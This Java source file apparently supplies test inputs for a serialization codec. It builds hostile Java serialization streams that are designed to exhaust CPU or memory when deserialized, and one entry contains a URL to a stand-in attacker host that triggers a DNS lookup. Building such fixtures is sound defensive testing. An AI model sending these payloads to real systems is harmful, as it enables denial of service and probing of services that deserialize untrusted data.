package io.libmc.codec;

import javax.security.auth.x500.X500Principal;
import java.util.Date;
import java.time.Instant;
import java.security.cert.Extension;
import java.security.cert.CertificateRevokedException;
import java.security.cert.CRLReason;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.io.Serializable;
import java.io.UncheckedIOException;
import java.lang.invoke.SerializedLambda;
import java.math.BigInteger;
import java.net.MalformedURLException;
import java.net.URI;
import java.net.URL;
import java.security.KeyPairGenerator;
import java.security.KeyRep;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.BitSet;
import java.util.Collection;
import java.util.Collections;
import java.util.Comparator;
import java.util.EnumSet;
import java.util.HashSet;
import java.util.IdentityHashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.PriorityQueue;
import java.util.PropertyPermission;
import java.util.Set;
import java.util.TreeSet;
import java.util.Vector;
import java.util.concurrent.ConcurrentSkipListMap;
import java.util.concurrent.ConcurrentSkipListSet;
import java.util.concurrent.CopyOnWriteArraySet;
import java.util.concurrent.PriorityBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.function.IntFunction;
import java.util.function.UnaryOperator;
import java.util.stream.IntStream;

/**
 * Streams of Java serialization that are slow, or large, for what Java's own classes do
 * when they are read. Java would not write them; something else takes the place of some
 * objects while they are written.
 */
@SuppressWarnings("JdkObsolete")
final class HostileObjects {

	private HostileObjects() {
	}

	static Map<String, byte[]> all() {
		Map<String, byte[]> values = new LinkedHashMap<>();
		for (int depth : new int[] { 20, 60 }) {
			String with = " with a comparator of " + depth + " levels";
			values.put("skip list map" + with, bytes(skipListMap(depth)));
			values.put("skip list set" + with, bytes(filled(new ConcurrentSkipListSet<>(new Levels(depth)), 2)));
			values.put("queue" + with, bytes(filled(new PriorityQueue<>(new Levels(depth)), 1000)));
			values.put("blocking queue" + with, bytes(filled(new PriorityBlockingQueue<>(1, new Levels(depth)), 2)));
		}
		values.put("queue of many with a comparator of 15 levels",
				bytes(filled(new PriorityQueue<>(new Levels(15)), 10_000)));
		Set<Object> trees = new HashSet<>();
		Levels levels = new Levels(20);
		trees.add(filled(new TreeSet<>(levels), 5000));
		trees.add(filled(new TreeSet<>(levels), 5000));
		values.put("equal tree sets in a set", bytes(trees));
		List<Integer> numbers = IntStream.range(0, 15_000).boxed().toList();
		List<Integer> backwards = new ArrayList<>(numbers);
		Collections.reverse(backwards);
		Map<Object, Object> copied = Map.of("1", new CopyOnWriteArraySet<>(numbers), "2",
				new CopyOnWriteArraySet<>(backwards));
		values.put("equal copying sets in a set",
				bytes(new HashSet<>(copied.keySet()), (o) -> copied.getOrDefault(o, o)));
		Object[] slots = new Object[100_000];
		values.put("vectors that clone one array", many(5000, (i) -> new Vector<>(1), Object[].class, slots));
		values.put("vectors that clone the array that holds them", within());
		byte[] magnitude = new byte[500_000];
		Arrays.fill(magnitude, (byte) 1);
		values.put("numbers of the same digits",
				many(5000, (i) -> BigInteger.TWO.pow(64 + i), byte[].class, magnitude));
		values.put("bit sets of one array", many(10_000, (i) -> {
			BitSet bits = new BitSet();
			bits.set(i % 64);
			return bits;
		}, long[].class, new long[60_000]));
		TimeUnit[] units = new TimeUnit[100_000];
		Arrays.fill(units, TimeUnit.DAYS);
		values.put("enum sets of one array", many(10_000, (i) -> EnumSet.of(TimeUnit.HOURS), Enum[].class, units));
		values.put("addresses of one text",
				many(10_000, (i) -> URI.create("x:" + i), String.class, "http://host/" + "x".repeat(500_000)));
		values.put("locales of one text", many(10_000, (i) -> new Locale("en"), String.class, "x".repeat(500_000)));
		Object suppressed = new ArrayList<>(Collections.nCopies(100_000, new Quiet()));
		values.put("exceptions that suppress the same", many(5000, (i) -> {
			Exception exception = new Exception("x");
			exception.setStackTrace(new StackTraceElement[0]);
			exception.addSuppressed(new Exception("y"));
			return exception;
		}, null, suppressed));
		values.put("exception that suppresses one many times", copies());
		values.put("permissions of one text", many(10_000, (i) -> new PropertyPermission("x" + i, "read"), String.class,
				"read,".repeat(100_000) + "read"));
		values.put("keys", keys());
		values.put("revoked certificate with an identifier of many digits", revoked());
		return values;
	}

	/** A key whose host would be looked up. */
	static byte[] address() {
		return bytes(new HashSet<>(Set.of("address")), (o) -> o.equals("address") ? url() : o);
	}

	private static URL url() {
		try {
			return new URL("http://attacker.invalid/");
		}
		catch (MalformedURLException ex) {
			throw new IllegalStateException(ex);
		}
	}

	private static byte[] revoked() {
		Extension extension = new Extension() {

			@Override
			public String getId() {
				return "1.2." + "9".repeat(200_000);
			}

			@Override
			public boolean isCritical() {
				return false;
			}

			@Override
			public byte[] getValue() {
				return new byte[] { 4, 0 };
			}

			@Override
			public void encode(OutputStream out) {
			}

		};
		Exception exception = new CertificateRevokedException(Date.from(Instant.EPOCH), CRLReason.UNSPECIFIED,
				new X500Principal("CN=a"), Map.of(extension.getId(), extension));
		exception.setStackTrace(new StackTraceElement[0]);
		return bytes(exception);
	}

	private static byte[] keys() {
		try {
			byte[] encoded = KeyPairGenerator.getInstance("RSA").generateKeyPair().getPublic().getEncoded();
			return many(30_000, (i) -> new KeyRep(KeyRep.Type.PUBLIC, "RSA", "X.509", encoded), byte[].class, encoded);
		}
		catch (NoSuchAlgorithmException ex) {
			throw new IllegalStateException(ex);
		}
	}

	/** An array of vectors of which each holds a clone of that array. */
	private static byte[] within() {
		Object[] outer = IntStream.range(0, 20_000).mapToObj((i) -> new Vector<>(1)).toArray();
		return bytes(outer, (o) -> (o instanceof Object[] array && array.length == 1) ? outer : o);
	}

	private static byte[] copies() {
		Exception exception = new Exception("x");
		exception.setStackTrace(new StackTraceElement[0]);
		exception.addSuppressed(new Quiet());
		return bytes(exception,
				(o) -> (o instanceof ArrayList) ? Collections.nCopies(Integer.MAX_VALUE, new Quiet()) : o);
	}

	private static Object skipListMap(int depth) {
		ConcurrentSkipListMap<Object, Object> map = new ConcurrentSkipListMap<>(new Levels(depth));
		map.put(7, "x");
		map.put(7, "y");
		return map;
	}

	private static <C extends Collection<Object>> C filled(C collection, int count) {
		for (int i = 0; i < count; i++) {
			collection.add(7);
		}
		return collection;
	}

	/** Many objects that all refer to one. */
	private static byte[] many(int count, IntFunction<Object> each, Class<?> replaced, Object by) {
		Object[] all = IntStream.range(0, count).mapToObj(each).toArray();
		return bytes(new Object[] { by, all }, (o) -> {
			boolean list = replaced == null && o instanceof List;
			return (o != all && (list || (replaced != null && o.getClass() == replaced && !isOuter(o, all)))) ? by : o;
		});
	}

	private static boolean isOuter(Object o, Object[] all) {
		return o instanceof Object[] array && array.length == 2 && array[1] == all;
	}

	private static byte[] bytes(Object value) {
		return bytes(value, UnaryOperator.identity());
	}

	private static byte[] bytes(Object value, UnaryOperator<Object> replacing) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (Replacing out = new Replacing(bytes, replacing)) {
			out.writeObject(value);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	/** Refers to no list of others. */
	private static final class Quiet extends Exception {

		private static final long serialVersionUID = 1;

		Quiet() {
			super("x", null, false, false);
		}

	}

	/** In its place a comparator is written that calls the one below it twice. */
	@SuppressWarnings({ "ComparatorMethodParameterNotUsed", "UnusedVariable" })
	private static final class Levels implements Comparator<Object>, Serializable {

		private static final long serialVersionUID = 1;

		private final int depth;

		Levels(int depth) {
			this.depth = depth;
		}

		@Override
		public int compare(Object one, Object other) {
			return 1;
		}

		@SuppressWarnings("unchecked")
		private Object writeReplace() {
			Comparator<Object> all = (Comparator<Object>) (Comparator<?>) Comparator.<Integer>naturalOrder();
			for (int i = 0; i < this.depth; i++) {
				all = all.thenComparing(all);
			}
			return all;
		}

	}

	/** Writes each lambda once, where Java writes it anew wherever it is reached. */
	private static final class Replacing extends ObjectOutputStream {

		private final IdentityHashMap<Object, Object> lambdas = new IdentityHashMap<>();

		private final UnaryOperator<Object> replacing;

		Replacing(OutputStream out, UnaryOperator<Object> replacing) throws IOException {
			super(out);
			this.replacing = replacing;
			enableReplaceObject(true);
		}

		@Override
		protected Object replaceObject(Object object) {
			return (object instanceof SerializedLambda lambda)
					? this.lambdas.computeIfAbsent(lambda.getCapturedArg(0), (key) -> lambda)
					: this.replacing.apply(object);
		}

	}

}
